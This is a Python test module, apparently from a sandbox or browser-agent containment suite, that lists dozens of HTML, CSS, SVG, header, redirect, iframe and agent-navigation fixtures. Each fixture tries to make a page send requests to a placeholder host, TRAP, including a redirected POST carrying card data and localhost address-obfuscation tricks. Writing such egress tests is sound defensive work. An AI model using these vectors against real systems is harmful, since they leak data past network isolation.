"""Attacks that reach another server by something that a page loads, links to or navigates to."""

from __future__ import annotations

from .attack import Attack, loaded, plain, pressed
from .hostile import Answer

SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image href="http://TRAP/i"/>
<use xlink:href="http://TRAP/u#a"/><filter id="f"><feImage href="http://TRAP/f"/></filter><rect width="9" height="9" filter="url(#f)"/>
<style>@import url(http://TRAP/c);</style><script href="http://TRAP/s"/></svg>"""
SHEET = b"""@import url("http://TRAP/import"); @font-face { font-family: far; src: url(http://TRAP/font) }
p { font-family: far; cursor: url(http://TRAP/cursor), auto;
mask: url(http://TRAP/mask); background: image-set("http://TRAP/set" 1x) }
li { list-style-image: url(http://TRAP/list) } q::after { content: url(http://TRAP/content) }
div { shape-outside: url(http://TRAP/shape) }"""
PLAYLIST = b"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nhttp://TRAP/segment.ts\n#EXT-X-ENDLIST\n"
CSS, JS = "text/css", "text/javascript"


def hop(to: str, status: int = 302) -> Answer:
    return Answer(b"", "text/html", status, (("Location", to), ("Access-Control-Allow-Origin", "*")))


RULES = '<script type="speculationrules">{"KIND": [{"urls": ["http://TRAP/ahead"], "eagerness": "immediate"}]}</script>'

ATTACKS: tuple[Attack, ...] = (
    # what a page loads
    plain("embedded", "<object data=http://TRAP/o></object><embed src=http://TRAP/e><input type=image src=http://TRAP/n alt=x>"),
    plain("media", "<video src=http://TRAP/v poster=http://TRAP/p autoplay muted></video><audio src=http://TRAP/a autoplay></audio>"
          "<video><source src=http://TRAP/w></video><picture><source srcset=http://TRAP/t><img alt=x></picture>"),
    plain("track", "<video autoplay muted crossorigin src=v.mp4><track default src=http://TRAP/t kind=subtitles></video>"
          "<script>onload = () => { document.querySelector('video').textTracks[0].mode = 'showing' }</script>"),
    plain("hls", "<video src=list.m3u8 autoplay muted></video>", files={"list.m3u8": Answer(PLAYLIST, "application/vnd.apple.mpegurl")}),
    plain("css", "<link rel=stylesheet href=s.css><p>text</p><ul><li>x</ul><q>x</q><div style='float:left'>y</div>",
          files={"s.css": Answer(SHEET, CSS)}),
    plain("svg_document", "<iframe src=x.svg></iframe>", files={"x.svg": Answer(SVG, "image/svg+xml")}),
    plain("svg_inline", "<svg><image href=http://TRAP/i /><foreignObject><img src=http://TRAP/fo alt=x></foreignObject></svg>"),
    plain("old_attributes", "<table background=http://TRAP/t><tr><td>x</table><script>document.body.background = 'http://TRAP/b'</script>"),
    plain("xml_stylesheet", "<iframe src=x.xml></iframe>", files={"x.xml": Answer(
        b'<?xml version="1.0"?><?xml-stylesheet type="text/css" href="http://TRAP/css"?><a>x</a>', "text/xml")}),
    plain("xslt_document", "<iframe src=x.xml></iframe>", files={
        "x.xml": Answer(b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="x.xsl"?><a/>', "text/xml"),
        "x.xsl": Answer(b"""<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">
            <img src="http://TRAP/x"/></xsl:template></xsl:stylesheet>""", "text/xsl")}, works=False),
    plain("import_map", '<script type=importmap>{"imports": {"far": "http://TRAP/m.js"}}</script>'
          '<script type=module>import "far"</script>'),
    plain("module_preload", "<link rel=modulepreload href=http://TRAP/m.js><link rel=preload as=script href=http://TRAP/p.js>"),
    plain("manifest_and_icon", "<link rel=manifest href=http://TRAP/m.json><link rel=icon href=http://TRAP/i.ico>"
          "<link rel=apple-touch-icon href=http://TRAP/a.png><link rel=search href=http://TRAP/o.xml>", works=False),
    plain("compression_dictionary", "<link rel=compression-dictionary href=http://TRAP/d>"),
    # what a page or its headers announce
    plain("preconnect", "<link rel=preconnect href=http://TRAP><link rel=preconnect href=http://TRAP crossorigin>",
          works=False),
    plain("prefetch", "<link rel=prefetch href=http://TRAP/ahead><link rel=prerender href=http://TRAP/before>"),
    plain("header_preconnect", "<p>x", headers=(("Link", "<http://TRAP>; rel=preconnect"),),
          works=False),
    plain("header_preload", "<p>x", headers=(("Link", "<http://TRAP/s.css>; rel=preload; as=style, <http://TRAP/f>; rel=prefetch"),)),
    plain("header_stylesheet", "<p>x", headers=(("Link", "<http://TRAP/s.css>; rel=stylesheet"),), works=False),
    plain("early_hints", "<iframe src=hinted></iframe>", files={"hinted": Answer(raw=(
        b"HTTP/1.1 103 Early Hints\r\nLink: <http://TRAP/s.css>; rel=preload; as=style\r\nLink: <http://TRAP>; rel=preconnect\r\n\r\n"
        b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"))}, works=False),
    plain("rules_prefetch", RULES.replace("KIND", "prefetch")),
    plain("rules_prerender", RULES.replace("KIND", "prerender")),
    plain("rules_by_header", "<p>x", headers=(("Speculation-Rules", '"rules.json"'),), files={"rules.json": Answer(
        b'{"prefetch": [{"urls": ["http://TRAP/ahead"], "eagerness": "immediate"}]}', "application/speculationrules+json")}),
    plain("rules_through_a_redirect", RULES.replace("KIND", "prefetch").replace("http://TRAP/ahead", "http://OWN/NAME/hop"),
          files={"hop": hop("http://TRAP/after")}),
    plain("rules_with_anonymous_client", '<script type="speculationrules">{"prefetch": [{"urls": ["http://TRAP/ahead"], '
          '"requires": ["anonymous-client-ip-when-cross-origin"], "eagerness": "immediate"}]}</script>', works=False),
    plain("policy_report", "<img src=/x.png alt=x><script>eval('1')</script>", headers=(
        ("Content-Security-Policy", "img-src 'none'; report-uri http://TRAP/csp"),)),
    plain("policy_report_to", "<img src=/x.png alt=x>", works=False, headers=(
        ("Content-Security-Policy", "img-src 'none'; report-to far"), ("Reporting-Endpoints", 'far="http://TRAP/far"'))),
    plain("reports", works=False, page="<script>document.domain = 'localhost'; fetch('/none', {mode: 'no-cors'})</script>", headers=(
        ("Report-To", '{"group": "g", "max_age": 999, "endpoints": [{"url": "http://TRAP/to"}]}'),
        ("NEL", '{"report_to": "g", "max_age": 999, "success_fraction": 1.0, "include_subdomains": false}'),
        ("Permissions-Policy-Report-Only", "geolocation=();report-to=g"),
        ("Cross-Origin-Opener-Policy-Report-Only", 'same-origin; report-to="g"'),
        ("Cross-Origin-Embedder-Policy-Report-Only", 'require-corp; report-to="g"'),
        ("Document-Policy-Report-Only", 'sync-xhr=?0, *;report-to=g'))),
    plain("refresh_header", "<p>x", headers=(("Refresh", "0; url=http://TRAP/refresh"),)),
    plain("refresh_meta", "<meta http-equiv=refresh content='0; url=http://TRAP/refresh'>"),
    plain("sourcemap", "<script src=s.js></script>", files={"s.js": Answer(b"1\n//# sourceMappingURL=http://TRAP/map", JS)}, works=False),
    plain("attribution", "<img attributionsrc=http://TRAP/src alt=x src=/p.png>"),
    # redirects
    *(plain(f"redirect_{status}", "<img src=hop alt=x><iframe src=hop></iframe><script>fetch('hop', {mode: 'no-cors'})</script>",
            files={"hop": hop("http://TRAP/after", status)}) for status in (301, 303, 307, 308)),
    plain("redirect_through_the_other_site", "<iframe src=http://OTHER/NAME/hop></iframe><script src=hop></script>",
          files={"hop": hop("http://localhost:TRAP_PORT/after")}),
    plain("redirect_of_a_stylesheet", "<link rel=stylesheet href=a.css><script type=module src=m.js></script>", files={
        "a.css": hop("http://TRAP/b.css"), "m.js": hop("//TRAP/m.js")}),
    pressed("redirect_of_a_post", "await fetch('hop', {method: 'POST', body: 'card=4111', mode: 'no-cors'})",
            files={"hop": hop("http://TRAP/after", 307)}),
    pressed("redirect_of_a_form", "document.body.insertAdjacentHTML('beforeend', '<form method=post action=hop></form>');"
            "document.forms[0].submit()", files={"hop": hop("http://TRAP/after", 308)}),
    # where a page or an agent goes
    pressed("location", "location = 'http://TRAP/go'"),
    pressed("other_port_of_the_host", "location = 'http://localhost:TRAP_PORT/go'"),
    pressed("backslashes", "location = 'http:\\\\\\\\TRAP\\\\go'"),
    pressed("user_in_the_address", "location = 'http://OWN@TRAP/go'; open('http://localhost:80%40OWN@TRAP/x')"),
    pressed("number_as_host", "location = 'http://2130706433:TRAP_PORT/go'"),
    pressed("octal_host", "for (const h of ['0177.0.0.1', '0x7f.1', '127.1', '[::ffff:127.0.0.1]', '[::1]', '0.0.0.0', 'localhost.',"
            "'１２７.0.0.1', '127。0。0。1', 'LOCALHOST', 'a.localhost']) try { new Image().src = `http://${h}:TRAP_PORT/i`;"
            "const f = document.createElement('iframe'); f.src = `http://${h}:TRAP_PORT/f`; document.body.append(f) } catch {}"),
    pressed("popup_without_opener", "open('http://TRAP/pop', '_blank', 'noopener,noreferrer')"),
    pressed("popup_that_moves", "const w = open('about:blank'); w.location = 'http://TRAP/pop'; w.document.write('x')"),
    Attack("link_with_ping", "<a href='#here' ping=http://TRAP/ping>Follow</a>", acts=("click [Follow]",)),
    Attack("link_download", "<a href=http://TRAP/file download=f.txt>Get</a>", acts=("click [Get]",)),
    Attack("link_to_a_tab", "<a href=http://TRAP/tab target=_blank rel=noopener>Tab</a>", acts=("click [Tab]",)),
    Attack("link_in_svg", "<svg width=99 height=40><a href=http://TRAP/a><text y=20>Vector</text></a></svg>", acts=("click [Vector]",)),
    Attack("form_by_get", "<form action=http://TRAP/f target=_blank><input name=q value=1><button>Send</button></form>",
           acts=("click [Send]",)),
    Attack("form_by_button", "<form><button formaction=http://TRAP/f formmethod=post>Send</button></form>", acts=("click [Send]",)),
    Attack("form_into_a_frame", "<iframe name=f></iframe><form action=http://TRAP/f target=f method=post><button>Send</button></form>",
           acts=("click [Send]",)),
    Attack("agent_goes", "<p>x", acts=('goto "http://TRAP/x"', 'goto "//TRAP/y"', 'goto "http://localhost:TRAP_PORT/z"')),
    Attack("agent_opens_a_source", "<p>x", acts=('goto "view-source:http://TRAP/x"',)),
    plain("base_element", "<base href=http://TRAP/><img src=i alt=x><script src=s></script>"),
    plain("frame_srcdoc", "<iframe srcdoc='<img src=http://TRAP/i><meta http-equiv=refresh content=0;url=http://TRAP/r>'></iframe>"),
    plain("frame_sandboxed", "<iframe sandbox='allow-scripts allow-top-navigation allow-popups' srcdoc=\"<script>fetch('http://TRAP/f',"
          "{mode:'no-cors'}); open('http://TRAP/p'); top.location='http://TRAP/t'</script>\"></iframe>"),
    plain("frame_data", "<iframe src=\"data:text/html,<img src=http://TRAP/i><script>fetch('http://TRAP/f',{mode:'no-cors'})</script>\">"
          "</iframe>"),
    plain("frame_credentialless", "<iframe credentialless src=http://TRAP/c></iframe><fencedframe></fencedframe>"),
    loaded("frame_blob", "const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<img src=http://TRAP/i>'],"
           "{type: 'text/html'})); document.body.append(f)"),
    loaded("frame_by_writing", "const f = document.createElement('iframe'); document.body.append(f); const d = f.contentDocument;"
           "d.open(); d.write('<base href=http://TRAP/><img src=i><link rel=stylesheet href=c>'); d.close()"),
)  # fmt: skip
